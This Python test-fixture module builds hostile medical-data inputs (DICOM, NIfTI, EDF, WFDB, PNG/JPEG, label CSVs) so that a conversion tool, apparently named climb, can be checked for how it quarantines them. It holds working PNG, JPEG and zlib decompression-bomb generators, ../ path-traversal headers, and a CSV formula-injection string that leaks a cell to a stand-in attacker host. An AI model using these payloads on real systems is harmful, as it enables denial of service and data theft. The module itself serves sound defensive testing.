"""Hostile raw inputs, generated in code: the broken and malicious files climb must survive.

Every `write_*` function lays out one source's real raw layout with a few good files next to
hostile ones and returns a `Corpus` that says, per planted file, what climb must do with it:
quarantine it (with a message that names the problem), exclude it, or convert it. Whole-job
failures (a label sheet climb cannot read at all) are `SheetCase`s: the run must stop with one clear
line, no traceback. Kinds are listed in KINDS (docs/RELIABILITY.md reports them).

Good files come from packages (pydicom's CT_small/MR_small, nibabel's anatomical.nii, the
climb.corpora generators); hostile ones are derived from them by patching bytes, so each hostile
file differs from a real one in exactly the way its kind says.
"""

from __future__ import annotations

import atexit
import gzip
import os
import shutil
import stat
import struct
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

KINDS: dict[str, str] = {
    "zero_byte": "empty file with a valid extension",
    "truncated": "a real file cut in half",
    "wrong_magic": "another format (PDF, text, PNG) behind the extension",
    "lying_length": "a DICOM element whose length field points past the end of the file",
    "huge_dimensions": "a DICOM header declaring 65,535 x 65,535 x 100,000 pixels over tiny pixel data",
    "header_voxels": "a NIfTI / MetaImage header declaring 10^12 voxels",
    "decompression_bomb": "a small PNG/JPEG/zlib block that inflates to far more than any limit",
    "header_data_mismatch": "a header whose declared data size differs from the data file",
    "path_traversal": "a header naming a data file outside the raw tree (../ or absolute)",
    "non_regular_file": "a FIFO, a device node or a symlink to /dev/zero with a valid extension",
    "dangling_symlink": "a symlink to a file that does not exist",
    "non_utf8_name": "a file name that is not valid UTF-8",
    "duplicate_key": "two label-sheet rows for the same sample",
    "formula_injection": "CSV cells such as =HYPERLINK(...) in ids and labels",
    "csv_missing_columns": "a label sheet without a required column",
    "csv_wrong_encoding": "a label sheet in UTF-16 instead of UTF-8",
    "malformed_cell": "a label-sheet cell that is not what its column holds (a dict literal nested 500 deep)",
    "nan_values": "voxel data full of NaN",
}

FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")'


@dataclass(frozen=True)
class Case:
    """One planted file and the outcome climb must reach for it.

    Args:
        kind: a key of KINDS.
        path: relative to the raw root, as quarantine.jsonl names it (surrogate-escaped if not UTF-8).
        outcome: quarantined | excluded | written.
        reason: words the quarantine message must contain (lowercase), so the reason is clear.
    """

    kind: str
    path: str
    outcome: str
    reason: str = ""


@dataclass
class Corpus:
    source: str
    root: Path
    good: int = 0
    cases: list[Case] = field(default_factory=list)

    def add(self, kind: str, path: str, outcome: str, reason: str = "") -> None:
        assert kind in KINDS, kind
        self.cases.append(Case(kind, path, outcome, reason))

    def count(self, outcome: str) -> int:
        return sum(1 for c in self.cases if c.outcome == outcome)


@dataclass(frozen=True)
class SheetCase:
    """A raw tree whose label sheet stops the whole job: exit 2 and a message with `reason`."""

    kind: str
    source: str
    root: Path
    reason: str


# ------------------------------------------------------------------------------------------ bytes


def pydicom_file(name: str) -> Path:
    from pydicom.data import get_testdata_file

    return Path(get_testdata_file(name))


def element_offset(data: bytes, group: int, element: int, vr: bytes) -> int:
    """Byte offset of an explicit-VR little-endian element header (tag + VR) in a DICOM file."""
    pos = data.find(struct.pack("<HH", group, element) + vr)
    if pos < 0:
        raise ValueError(f"element ({group:04X},{element:04X}) {vr!r} not found")
    return pos


def lying_length_dicom(data: bytes) -> bytes:
    """CT_small with PixelData's 4-byte length set to 2 GiB (the file holds 32 KiB of pixels)."""
    pos = element_offset(data, 0x7FE0, 0x0010, b"OW") + 8
    return data[:pos] + struct.pack("<I", 0x7FFFFFF0) + data[pos + 4:]


def lying_short_length_dicom(data: bytes) -> bytes:
    """CT_small with a 2-byte element length (PatientName) pointing 64 KiB ahead: the parser desyncs."""
    pos = element_offset(data, 0x0010, 0x0010, b"PN") + 6
    return data[:pos] + struct.pack("<H", 0xFFFF) + data[pos + 2:]


def huge_dimension_dicom(name: str, out: Path, rows: int = 65535, columns: int = 65535, frames: int | None = 100000) -> None:
    """A real DICOM whose header declares a gigantic image over its original (tiny) pixel data."""
    import pydicom

    ds = pydicom.dcmread(pydicom_file(name))
    ds.Rows, ds.Columns = rows, columns
    if frames is not None:
        ds.NumberOfFrames = frames
    ds.save_as(out)


def lying_codestream_dicom(out: Path) -> None:
    """JPEG2000.dcm (1024 x 256) whose JPEG 2000 SIZ marker declares 1,024 x 10,617,088 pixels.

    The mutation tests/hostile/test_fuzz.py found: decoding it made OpenJPEG allocate until the
    kernel killed the process.
    """
    data = bytearray(pydicom_file("JPEG2000.dcm").read_bytes())
    siz = data.find(b"\xff\x4f\xff\x51")
    struct.pack_into(">I", data, siz + 8, 10_617_088)  # Xsiz
    out.write_bytes(bytes(data))


def png_bomb(width: int = 30000, height: int = 30000) -> bytes:
    """A genuine, valid 8-bit grayscale PNG of zeros: ~1.2 MB on disk, 900 Mpixel (2.7 GB as RGB) decoded.

    Built in milliseconds: after a zlib full flush the compressor forgets its history, so every
    all-zero row compresses to the same block, which is repeated; the adler32 of n zero bytes is
    (n mod 65521) << 16 | 1.
    """
    row = b"\0" * (width + 1)  # filter byte + pixels
    comp = zlib.compressobj(9)
    first = comp.compress(row) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(row) + comp.flush(zlib.Z_FULL_FLUSH)
    final = comp.flush()[:-4]  # the closing empty block, without the (two-row) checksum
    total = len(row) * height
    idat = first + block * (height - 1) + final + struct.pack(">I", ((total % 65521) << 16) | 1)

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_bomb(height: int = 60000, width: int = 60000) -> bytes:
    """A real 16x16 JPEG whose SOF0 header is patched to declare height x width pixels."""
    import cv2

    ok, buf = cv2.imencode(".jpg", np.full((16, 16, 3), 128, np.uint8))
    data = bytearray(buf.tobytes())
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def nifti_bytes(shape: tuple[int, ...] | None = None, fill: float | None = None) -> bytes:
    """nibabel's anatomical.nii, optionally with its header's dims rewritten or its voxels replaced."""
    import nibabel as nib
    from nibabel.testing import data_path

    img = nib.load(os.path.join(data_path, "anatomical.nii"))
    data = np.asarray(img.dataobj, dtype=np.float32)
    if fill is not None:
        data = np.full(data.shape, fill, np.float32)
    out = nib.Nifti1Image(data, img.affine)
    blob = out.to_bytes()
    if shape is not None:
        dims = [len(shape), *shape] + [1] * (7 - len(shape))
        blob = blob[:40] + struct.pack("<8h", *dims) + blob[56:]
    return blob


# ---------------------------------------------------------------------------- filesystem oddities


def plant_non_regular(folder: Path, suffix: str) -> list[tuple[str, str]]:
    """A FIFO, a symlink to /dev/zero and (as root) a character device, each named like data.

    Returns:
        (kind, file name) for every node made.
    """
    folder.mkdir(parents=True, exist_ok=True)
    made = []
    os.mkfifo(folder / f"fifo{suffix}")
    made.append(("non_regular_file", f"fifo{suffix}"))
    (folder / f"zero_link{suffix}").symlink_to("/dev/zero")
    made.append(("non_regular_file", f"zero_link{suffix}"))
    try:
        os.mknod(folder / f"device{suffix}", 0o644 | stat.S_IFCHR, os.makedev(1, 5))
        made.append(("non_regular_file", f"device{suffix}"))
    except (PermissionError, OSError):
        pass
    (folder / f"dangling{suffix}").symlink_to(folder / f"does-not-exist{suffix}")
    made.append(("dangling_symlink", f"dangling{suffix}"))
    return made


NON_UTF8_NAME = b"caf\xe9-\xff\xfe"


def non_utf8_path(folder: Path, suffix: str) -> tuple[Path, str]:
    """A path whose name is Latin-1 bytes (not UTF-8), and its str form as Python lists it."""
    raw = os.fsencode(str(folder)) + b"/" + NON_UTF8_NAME + suffix.encode()
    return Path(os.fsdecode(raw)), os.fsdecode(NON_UTF8_NAME + suffix.encode())


# ---------------------------------------------------------------------------------------- corpora


def write_dicom_corpus(root: Path) -> Corpus:
    """`dicom` source: a flat tree of good, broken, lying and non-regular .dcm files."""
    corpus = Corpus("dicom", root)
    root.mkdir(parents=True, exist_ok=True)
    ct = pydicom_file("CT_small.dcm").read_bytes()
    shutil.copy(pydicom_file("CT_small.dcm"), root / "good_ct.dcm")
    shutil.copy(pydicom_file("MR_small.dcm"), root / "good_mr.dcm")
    corpus.good = 2
    (root / "zero.dcm").write_bytes(b"")
    corpus.add("zero_byte", "zero.dcm", "quarantined", "dicom")
    (root / "truncated.dcm").write_bytes(ct[: len(ct) // 2])
    corpus.add("truncated", "truncated.dcm", "quarantined")
    (root / "pdf.dcm").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n" * 30)
    corpus.add("wrong_magic", "pdf.dcm", "quarantined", "dicom")
    (root / "png.dcm").write_bytes(png_bomb(64, 64))
    corpus.add("wrong_magic", "png.dcm", "quarantined", "dicom")
    (root / "lying_pixel_length.dcm").write_bytes(lying_length_dicom(ct))
    corpus.add("lying_length", "lying_pixel_length.dcm", "written")  # pydicom reads to EOF: the pixels are intact
    (root / "lying_name_length.dcm").write_bytes(lying_short_length_dicom(ct))
    corpus.add("lying_length", "lying_name_length.dcm", "quarantined")
    huge_dimension_dicom("CT_small.dcm", root / "huge_frames.dcm")
    corpus.add("huge_dimensions", "huge_frames.dcm", "quarantined", "max_pixels")
    huge_dimension_dicom("JPEG2000.dcm", root / "huge_jpeg2000.dcm", frames=None)
    corpus.add("decompression_bomb", "huge_jpeg2000.dcm", "quarantined", "max_pixels")
    lying_codestream_dicom(root / "lying_codestream.dcm")
    corpus.add("decompression_bomb", "lying_codestream.dcm", "quarantined", "compressed frame declares")
    for kind, name in plant_non_regular(root, ".dcm"):
        corpus.add(kind, name, "quarantined", "regular file" if kind == "non_regular_file" else "")
    path, listed = non_utf8_path(root, ".dcm")
    shutil.copy(pydicom_file("CT_small.dcm"), path)
    corpus.add("non_utf8_name", listed, "written")
    return corpus


def write_nifti_corpus(root: Path) -> Corpus:
    """`nifti` source: good anatomical.nii next to empty, cut, fake, 10^12-voxel and NaN volumes."""
    corpus = Corpus("nifti", root, good=1)
    root.mkdir(parents=True, exist_ok=True)
    good = nifti_bytes()
    (root / "good.nii").write_bytes(good)
    (root / "zero.nii").write_bytes(b"")
    corpus.add("zero_byte", "zero.nii", "quarantined", "nifti")
    (root / "truncated.nii.gz").write_bytes(gzip.compress(good, mtime=0)[:2000])
    corpus.add("truncated", "truncated.nii.gz", "quarantined")
    (root / "text.nii").write_text("this is a README, not a volume\n" * 40)
    corpus.add("wrong_magic", "text.nii", "quarantined", "nifti")
    (root / "teravoxel.nii").write_bytes(nifti_bytes(shape=(10000, 10000, 10000)))
    corpus.add("header_voxels", "teravoxel.nii", "quarantined", "voxels")
    (root / "teravoxel.nii.gz").write_bytes(gzip.compress(nifti_bytes(shape=(10000, 10000, 10000)), mtime=0))
    corpus.add("header_voxels", "teravoxel.nii.gz", "quarantined", "voxels")
    (root / "nan.nii").write_bytes(nifti_bytes(fill=float("nan")))
    corpus.add("nan_values", "nan.nii", "quarantined", "nan")
    for kind, name in plant_non_regular(root, ".nii"):
        corpus.add(kind, name, "quarantined", "regular file" if kind == "non_regular_file" else "")
    return corpus


def write_lndb_corpus(root: Path) -> Corpus:
    """`lndb` source: MetaImage headers that lie about size, name files outside the tree, or bomb."""
    from climb.corpora.imaging3d import stacked_ct, write_metaimage
    from climb.corpora.imaging3d import write_lndb_corpus as write_real

    corpus = Corpus("lndb", root, good=2)
    write_real(root)
    data = root / "data"
    outside = root.parent / "outside-secret.raw"
    outside.write_bytes(np.zeros((3, 128, 128), "<i2").tobytes())
    sheet = root / "trainNodules_gt.csv"
    rows = []

    def scan(n: int, header_edit=None, raw: bytes | None = None) -> str:
        name = f"LNDb-{n:04d}"
        write_metaimage(data / f"{name}.mhd", stacked_ct(3), (0.7, 0.7, 2.5))
        if header_edit:
            text = (data / f"{name}.mhd").read_text()
            (data / f"{name}.mhd").write_text(header_edit(text))
        if raw is not None:
            (data / f"{name}.raw").write_bytes(raw)
        rows.append(f"{n},1,1,1,-100.0,-130.0,-71.0,1,100.0,1")
        return f"data/{name}.mhd"

    corpus.add("header_voxels", scan(11, lambda t: t.replace("DimSize = 128 128 3", "DimSize = 10000 10000 10000")),
               "quarantined", "max_voxels")
    corpus.add("path_traversal", scan(12, lambda t: t.replace("ElementDataFile = LNDb-0012.raw", "ElementDataFile = ../../outside-secret.raw")),
               "quarantined", "elementdatafile")
    corpus.add("path_traversal", scan(13, lambda t: t.replace("ElementDataFile = LNDb-0013.raw", f"ElementDataFile = {outside}")),
               "quarantined", "elementdatafile")
    bomb = zlib.compress(b"\0" * (64 * 2**20), 9)
    corpus.add("decompression_bomb", scan(14, lambda t: t.replace("CompressedData = False", "CompressedData = True"), raw=bomb),
               "quarantined", "long")
    corpus.add("header_data_mismatch", scan(15, raw=b"\1\2" * 1000), "quarantined", "short")
    corpus.add("zero_byte", scan(16, lambda t: ""), "quarantined", "header")
    corpus.add("wrong_magic", scan(17, lambda t: "%PDF-1.4 not a header\n"), "quarantined", "header")
    with open(sheet, "a") as f:
        f.write("\n".join(rows) + "\n")
    return corpus


def write_aptos_corpus(root: Path) -> Corpus:
    """`aptos` (train.csv + PNG): a PNG decompression bomb, a truncated and a fake PNG, formula cells."""
    import csv

    from climb.corpora.imaging2d import write_aptos_corpus as write_real

    corpus = Corpus("aptos", root, good=4)
    write_real(root, images=4)
    images = root / "train_images"
    good = sorted(images.glob("*.png"))[0].read_bytes()
    planted = {
        "bomb": ("decompression_bomb", png_bomb(), "bomb"),
        "truncated": ("truncated", good[: len(good) // 2], "decoded"),
        "fake": ("wrong_magic", b"GIF89a not really\n" * 10, "png/jpeg"),
        "empty": ("zero_byte", b"", "png/jpeg"),
    }
    with open(root / "train.csv", "a", newline="") as f:
        writer = csv.writer(f)
        for name, (kind, blob, reason) in planted.items():
            (images / f"{name}.png").write_bytes(blob)
            writer.writerow([name, "2"])
            corpus.add(kind, f"train_images/{name}.png", "quarantined", reason)
        writer.writerow(["formula", FORMULA])
        (images / "formula.png").write_bytes(good)
        corpus.add("formula_injection", "train_images/formula.png", "written")
        writer.writerow([FORMULA, "1"])
        corpus.add("formula_injection", f"train_images/{FORMULA}.png", "quarantined", "protocol not known")
    return corpus


def write_chexpert_corpus(root: Path) -> Corpus:
    """`chexpert` (train.csv + JPG): a JPEG whose header declares 60,000^2 pixels, duplicate rows."""
    import csv

    from climb.corpora.imaging2d import write_chexpert_corpus as write_real

    corpus = Corpus("chexpert", root, good=7)
    write_real(root, patients=2)
    with open(root / "train.csv", newline="") as f:
        rows = list(csv.reader(f))
    header, first = rows[0], rows[1]
    bomb_rel = "train/patient09001/study1/view1_frontal.jpg"
    (root / bomb_rel).parent.mkdir(parents=True)
    (root / bomb_rel).write_bytes(jpeg_bomb())
    outside = root.parent / "outside-secret.jpg"
    shutil.copy(root / first[0].split("/", 1)[1], outside)
    escape_rel = f"train/patient00001/../../../{outside.name}"
    extra = [[f"CheXpert-v1.0-small/{bomb_rel}", *first[1:]], list(first), [f"CheXpert-v1.0-small/{escape_rel}", *first[1:]]]
    corpus.add("decompression_bomb", bomb_rel, "quarantined", "bomb")
    corpus.add("duplicate_key", first[0].split("/", 1)[1], "quarantined", "same sample id")
    corpus.add("path_traversal", escape_rel, "quarantined", "leaves raw_url")
    with open(root / "train.csv", "a", newline="") as f:
        csv.writer(f).writerows(extra)
    assert header[0] == "Path"
    return corpus


def write_video_corpus(root: Path) -> Corpus:
    """`video` (folder of clips): empty, cut and fake clips, a DICOM cine declaring 10^14 pixels."""
    from climb.corpora.video import cine_frames, write_video_file

    corpus = Corpus("video", root, good=1)
    clips = root / "clips"
    clips.mkdir(parents=True)
    write_video_file(clips / "good.avi", cine_frames(0, 6, (64, 64)), 25.0)
    good = (clips / "good.avi").read_bytes()
    (clips / "zero.mp4").write_bytes(b"")
    corpus.add("zero_byte", "clips/zero.mp4", "quarantined", "video")
    (clips / "truncated.avi").write_bytes(good[:300])
    corpus.add("truncated", "clips/truncated.avi", "quarantined", "video")
    (clips / "text.mp4").write_text("not a video\n" * 50)
    corpus.add("wrong_magic", "clips/text.mp4", "quarantined", "video")
    huge_dimension_dicom("emri_small.dcm", clips / "huge_cine.dcm", rows=4096, columns=4096, frames=10**6)
    corpus.add("huge_dimensions", "clips/huge_cine.dcm", "quarantined", "max_pixels")
    for kind, name in plant_non_regular(clips, ".mp4"):
        corpus.add(kind, f"clips/{name}", "quarantined", "regular file" if kind == "non_regular_file" else "")
    return corpus


def sheet_cases(base: Path) -> list[SheetCase]:
    """Label sheets no conversion can use: each must stop the job with one clear line."""
    import csv

    from climb.corpora.imaging2d import write_aptos_corpus as write_aptos

    cases = []
    root = base / "aptos-missing-column"
    write_aptos(root, images=2)
    with open(root / "train.csv", newline="") as f:
        rows = list(csv.reader(f))
    with open(root / "train.csv", "w", newline="") as f:
        csv.writer(f).writerows([[r[0]] for r in rows])
    cases.append(SheetCase("csv_missing_columns", "aptos", root, "diagnosis"))
    root = base / "aptos-utf16"
    write_aptos(root, images=2)
    text = (root / "train.csv").read_text()
    (root / "train.csv").write_bytes(text.encode("utf-16"))
    cases.append(SheetCase("csv_wrong_encoding", "aptos", root, "utf-8"))
    root = base / "lndb-missing-column"
    from climb.corpora.imaging3d import write_lndb_corpus as write_lndb

    write_lndb(root)
    lines = (root / "trainNodules_gt.csv").read_text().splitlines()
    (root / "trainNodules_gt.csv").write_text("\n".join(",".join(line.split(",")[:7]) for line in lines) + "\n")
    cases.append(SheetCase("csv_missing_columns", "lndb", root, "nodule"))
    return cases


_PRISTINE: dict[str, Path] = {}


def pristine_ptbxl(root: Path) -> None:
    """climb.corpora's PTB-XL tree (no bad records) copied to root; written once per process (~3 s)."""
    import tempfile

    from climb.corpora.ecg import write_ptbxl_corpus

    if "ptbxl" not in _PRISTINE:
        folder = tempfile.mkdtemp(prefix="climb-hostile-ptbxl-")
        atexit.register(shutil.rmtree, folder, True)
        _PRISTINE["ptbxl"] = Path(folder) / "ptbxl"
        write_ptbxl_corpus(_PRISTINE["ptbxl"], include_bad=False)
    shutil.copytree(_PRISTINE["ptbxl"], root)


def _edf_field(data: bytes, start: int, width: int, value: bytes) -> bytes:
    return data[:start] + value.ljust(width)[:width] + data[start + width:]


def write_ptbxl_corpus(root: Path) -> Corpus:
    """`ptbxl` (WFDB + ptbxl_database.csv): header/data mismatches, lying lengths, ../ data files,
    unreadable headers, a FIFO .dat, a formula as an SCP code and an SCP cell that is not a dict."""
    import csv

    from climb.corpora.ecg import PTBXL_RECORDS, synthetic_ecg, write_wfdb

    corpus = Corpus("ptbxl", root, good=len(PTBXL_RECORDS))
    pristine_ptbxl(root)
    with open(root / "ptbxl_database.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    template = rows[0]
    (root.parent / "outside.dat").write_bytes(b"\0" * 120000)
    planted = []

    def record(ecg_id: int, kind: str, outcome: str, reason: str, **cells: str) -> Path:
        folder = f"records500/{ecg_id // 1000 * 1000:05d}"
        stem = f"{folder}/{ecg_id:05d}_hr"
        write_wfdb(root / folder, f"{ecg_id:05d}_hr", synthetic_ecg(ecg_id), 500)
        planted.append({**template, "ecg_id": str(ecg_id), "patient_id": str(40000.0 + ecg_id),
                        "filename_hr": stem, "filename_lr": stem.replace("500", "100").replace("_hr", "_lr"), **cells})
        corpus.add(kind, f"{stem}.hea", outcome, reason)
        return root / stem

    hea = lambda stem: stem.with_suffix(".hea")  # noqa: E731
    dat = lambda stem: stem.with_suffix(".dat")  # noqa: E731
    stem = record(301, "header_data_mismatch", "quarantined", "length mismatch")
    dat(stem).write_bytes(dat(stem).read_bytes()[:5000])
    stem = record(302, "header_data_mismatch", "quarantined", "length mismatch")
    hea(stem).write_text(hea(stem).read_text().replace(" 500 5000", " 500 100000000000", 1))
    stem = record(303, "path_traversal", "quarantined", "wfdb header")  # wfdb refuses the signal line
    hea(stem).write_text(hea(stem).read_text().replace(f"{stem.name}.dat", "../../../outside.dat"))
    stem = record(304, "zero_byte", "quarantined", "header")
    hea(stem).write_bytes(b"")
    stem = record(305, "wrong_magic", "quarantined", "header")
    hea(stem).write_bytes(png_bomb(16, 16))
    stem = record(306, "non_regular_file", "quarantined", "regular file")
    dat(stem).unlink()
    os.mkfifo(dat(stem))
    stem = record(307, "formula_injection", "written", "", scp_codes=repr({"NORM": 100.0, FORMULA: 50.0}))
    stem = record(308, "malformed_cell", "quarantined", "scp_codes", scp_codes="{'NORM': " + "[" * 500)
    with open(root / "ptbxl_database.csv", "a", newline="") as f:
        csv.DictWriter(f, fieldnames=list(template)).writerows(planted)
    return corpus


def write_tuab_corpus(root: Path) -> Corpus:
    """`tuab` (EDF/EDF+ tree): empty, fake, cut and lying EDF headers, FIFOs and a device link."""
    from climb.corpora.eeg import TUAB_FILES, _tuab_file
    from climb.corpora.eeg import write_tuab_corpus as write_real

    corpus = Corpus("tuab", root, good=sum(int(seconds // 10) for _, _, seconds, _ in TUAB_FILES))
    write_real(root, include_bad=False)
    folder = root / "edf/train/abnormal/01_tcp_ar"
    _tuab_file(folder / "zzzzzzza_s001_t000.edf", 250, 20, "REF", 21)
    good = (folder / "zzzzzzza_s001_t000.edf").read_bytes()
    (folder / "zzzzzzza_s001_t000.edf").unlink()
    planted = {
        "zzzzzzzb_s001_t000.edf": ("zero_byte", b"", "edf"),
        "zzzzzzzc_s001_t000.edf": ("wrong_magic", b"%PDF-1.4\n" * 400, "edf"),
        "zzzzzzzd_s001_t000.edf": ("truncated", good[: len(good) // 2], "edf"),
        "zzzzzzze_s001_t000.edf": ("header_data_mismatch", _edf_field(good, 236, 8, b"99999999"), "edf"),
        "zzzzzzzf_s001_t000.edf": ("lying_length", _edf_field(good, 252, 4, b"9999"), "edf"),
    }
    for name, (kind, blob, reason) in planted.items():
        (folder / name).write_bytes(blob)
        corpus.add(kind, f"edf/train/abnormal/01_tcp_ar/{name}", "quarantined", reason)
    for kind, name in plant_non_regular(folder, ".edf"):
        corpus.add(kind, f"edf/train/abnormal/01_tcp_ar/{name}", "quarantined", "regular file" if kind == "non_regular_file" else "")
    return corpus


# ---------------------------------------------------------------------------------------- privacy

PHI = {
    "name": "Zebulon Quixwright",
    "dicom_name": "QUIXWRIGHT^ZEBULON",
    "mrn": "MRN88412397",
    "birth_date": "1947-03-12",
    "dicom_birth_date": "19470312",
    "edf_birth_date": "12-MAR-1947",
    "address": "1428 Elmstreet Lane, Springfield",
    "accession": "ACC77120934",
    "edf_start_date": "12.03.98",
}
# what must never appear in any output: each planted value, its parts and its other spellings
PHI_NEEDLES = ("Zebulon", "Quixwright", "88412397", "1947-03-12", "19470312", "12-MAR-1947", "1428 Elmstreet",
               "Elmstreet", "77120934", "12.03.98")


def phi_dicom(source: str, out: Path) -> None:
    """A real DICOM with identifiers in standard tags, a private block, a sequence and free text."""
    import pydicom
    from pydicom.dataset import Dataset
    from pydicom.sequence import Sequence

    ds = pydicom.dcmread(pydicom_file(source))
    ds.PatientName = PHI["dicom_name"]
    ds.PatientID = PHI["mrn"]
    ds.PatientBirthDate = PHI["dicom_birth_date"]
    ds.PatientAddress = PHI["address"]
    ds.AccessionNumber = PHI["accession"]
    ds.ReferringPhysicianName = PHI["dicom_name"]
    ds.InstitutionAddress = PHI["address"]
    ds.ImageComments = f"{PHI['name']} born {PHI['birth_date']}, {PHI['address']}, {PHI['mrn']}"
    ds.StudyDescription = f"CT for {PHI['name']} {PHI['accession']}"
    other = Dataset()
    other.PatientID = PHI["mrn"]
    other.IssuerOfPatientID = PHI["address"]
    ds.OtherPatientIDsSequence = Sequence([other])
    block = ds.private_block(0x0011, "CLIMB HOSTILE PHI", create=True)
    block.add_new(0x01, "LO", PHI["name"])
    block.add_new(0x02, "LO", PHI["accession"])
    ds.save_as(out)


def write_phi_dicom_corpus(root: Path) -> Path:
    """`dicom`: two identifier-laden images and one truncated one (quarantined)."""
    root.mkdir(parents=True, exist_ok=True)
    phi_dicom("CT_small.dcm", root / "ct.dcm")
    phi_dicom("MR_small.dcm", root / "mr.dcm")
    data = (root / "ct.dcm").read_bytes()
    (root / "cut.dcm").write_bytes(data[: len(data) * 2 // 3])
    return root


def write_phi_chexpert_corpus(root: Path) -> Path:
    """`chexpert`: identifier columns a local extract of the label sheet might carry."""
    import csv

    from climb.corpora.imaging2d import write_chexpert_corpus as write_real

    write_real(root, patients=2)
    for sheet in ("train.csv", "valid.csv"):
        with open(root / sheet, newline="") as f:
            rows = list(csv.DictReader(f))
        extra = {"PatientName": PHI["name"], "MRN": PHI["mrn"], "DOB": PHI["birth_date"],
                 "Address": PHI["address"], "AccessionNumber": PHI["accession"]}
        with open(root / sheet, "w", newline="") as f:
            writer = csv.DictWriter(f, fieldnames=list(rows[0]) + list(extra))
            writer.writeheader()
            writer.writerows({**row, **extra} for row in rows)
    return root


def write_phi_tuab_corpus(root: Path) -> Path:
    """`tuab`: EDF headers whose patient and recording fields carry name, code, birth date, accession."""
    from climb.corpora.eeg import TUAB_FILES, _tuab_file

    patient = f"{PHI['mrn']} M {PHI['edf_birth_date']} {PHI['name'].replace(' ', '_')}".encode()
    recording = f"Startdate 12-MAR-1998 {PHI['accession']} Dr_Quixwright {PHI['address']}".encode()
    for seed, (rel, fs, seconds, reference) in enumerate(TUAB_FILES[:2]):
        _tuab_file(root / rel, fs, seconds, reference, seed)
        data = (root / rel).read_bytes()
        data = _edf_field(data, 8, 80, patient)
        data = _edf_field(data, 88, 80, recording)
        data = _edf_field(data, 168, 8, PHI["edf_start_date"].encode())
        (root / rel).write_bytes(data)
    broken = root / TUAB_FILES[2][0]
    _tuab_file(broken, 250, 20, "REF", 9)
    (broken).write_bytes(_edf_field(_edf_field(broken.read_bytes(), 8, 80, patient), 252, 4, b"xx"))
    return root


def write_phi_ptbxl_corpus(root: Path) -> Path:
    """`ptbxl`: identifiers in WFDB header comments and in free-text sheet columns."""
    import csv

    from climb.corpora.ecg import PTBXL_RECORDS

    pristine_ptbxl(root)
    with open(root / "ptbxl_database.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    note = f"{PHI['name']} DOB {PHI['birth_date']} {PHI['mrn']} {PHI['address']} {PHI['accession']}"
    for row in rows:
        row["report"] = note
        row["nurse"] = PHI["name"]
    with open(root / "ptbxl_database.csv", "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    for hea in sorted((root / "records500").rglob("*.hea"))[: len(PTBXL_RECORDS)]:
        hea.write_text(hea.read_text() + f"# Patient: {PHI['name']}\n# DOB: {PHI['birth_date']}\n# MRN: {PHI['mrn']}\n"
                       f"# Address: {PHI['address']}\n# Accession: {PHI['accession']}\n")
    cut = sorted((root / "records500").rglob("*.dat"))[0]
    cut.write_bytes(cut.read_bytes()[:1000])  # one record quarantined: its message must not leak either
    return root


# Hospital exports name folders and files after the patient: what must never reach an output or a log
MRN = "MRN40718236"
PATIENT_FOLDER = f"VANTERPOOL^OSWIN_{MRN}"
NAME_NEEDLES = ("VANTERPOOL", "OSWIN", MRN, "40718236")


def plant_names(root: Path, renames: dict[str, str]) -> None:
    """Rename a raw tree's folders and files after a patient: every relative path has each key
    replaced by its value, and label sheets and WFDB headers that name the files are rewritten."""
    for path in sorted((p for p in root.rglob("*") if p.is_file()), reverse=True):
        rel = path.relative_to(root).as_posix()
        new = rel
        for old, name in renames.items():
            new = new.replace(old, name)
        if path.suffix in (".csv", ".hea"):
            text = path.read_text()
            for old, name in renames.items():
                text = text.replace(old, name)
            path.write_text(text)
        if new != rel:
            (root / new).parent.mkdir(parents=True, exist_ok=True)
            path.rename(root / new)
    for folder in sorted((p for p in root.rglob("*") if p.is_dir()), reverse=True):
        if not any(folder.iterdir()):
            folder.rmdir()


def truncate(path: Path) -> None:
    """Cut a file to a third: the sample is quarantined, and its message must not leak either."""
    path.write_bytes(path.read_bytes()[: max(1, path.stat().st_size // 3)])


def write_named_dicom_corpus(root: Path) -> Path:
    """`dicom`: a patient folder with two images and one truncated one, all named after the MRN."""
    folder = root / PATIENT_FOLDER
    folder.mkdir(parents=True)
    shutil.copy(pydicom_file("CT_small.dcm"), folder / f"{MRN}_chest.dcm")
    shutil.copy(pydicom_file("MR_small.dcm"), folder / f"{MRN}_head.dcm")
    shutil.copy(pydicom_file("CT_small.dcm"), folder / f"{MRN}_cut.dcm")
    truncate(folder / f"{MRN}_cut.dcm")
    return root


def write_named_nifti_corpus(root: Path) -> Path:
    """`nifti`: a patient folder with a volume and a truncated copy."""
    from nibabel.testing import data_path

    folder = root / PATIENT_FOLDER
    folder.mkdir(parents=True)
    shutil.copy(Path(data_path) / "anatomical.nii", folder / f"{MRN}_brain.nii")
    shutil.copy(Path(data_path) / "anatomical.nii", folder / f"{MRN}_cut.nii")
    truncate(folder / f"{MRN}_cut.nii")
    return root


def write_named_chexpert_corpus(root: Path) -> Path:
    """`chexpert`: the first patient's folder and frontal views named after the patient, in the
    tree and in the sheets' Path column; one of them truncated."""
    from climb.corpora.imaging2d import write_chexpert_corpus as write_real

    write_real(root, patients=2)
    plant_names(root, {"patient00001/": f"patient00001_{PATIENT_FOLDER}/", "view1_frontal": f"{MRN}_view1_frontal"})
    truncate(next(root.rglob(f"{MRN}_view1_frontal.jpg")))
    return root


def write_named_ptbxl_corpus(root: Path) -> Path:
    """`ptbxl`: the first records folder and record named after the patient (sheet, headers, files)."""
    pristine_ptbxl(root)
    plant_names(root, {"/00000/": f"/{PATIENT_FOLDER}/", "00001_hr": f"{MRN}_00001_hr", "00001_lr": f"{MRN}_00001_lr"})
    truncate(next(root.rglob(f"{MRN}_00001_hr.dat")))
    return root


